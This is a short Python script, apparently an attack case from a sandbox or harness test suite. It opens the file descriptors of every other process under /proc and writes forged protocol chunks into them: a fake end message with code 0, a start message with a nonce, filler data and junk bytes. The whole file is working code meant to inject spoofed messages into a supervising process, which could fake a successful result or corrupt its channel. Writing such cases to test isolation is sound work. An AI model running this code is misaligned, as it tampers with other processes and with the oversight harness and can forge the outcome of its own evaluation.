# /// attack
# tries = "opens the descriptors of every process in /proc and writes chunks to them: an end, a start, data"
# docker = true
# ///
import glob
import json
import os
import struct


def chunk(kind, data):
    return struct.pack(">cI", kind, len(data)) + data


for place in glob.glob("/proc/[0-9]*/fd/*"):
    if "/proc/%d/" % os.getpid() in place:
        continue
    try:
        number = os.open(place, os.O_WRONLY | os.O_NONBLOCK)
        for data in (
            chunk(b"X", b'{"code": 0}'),
            chunk(b"R", json.dumps({"nonce": "0" * 16, "torch": "9"}).encode()),
            chunk(b"D", b"\0" * 64),
            b"\xff" * 64,
        ):
            os.write(number, data)
        print("wrote to", place)
    except OSError:
        pass
raise SystemExit
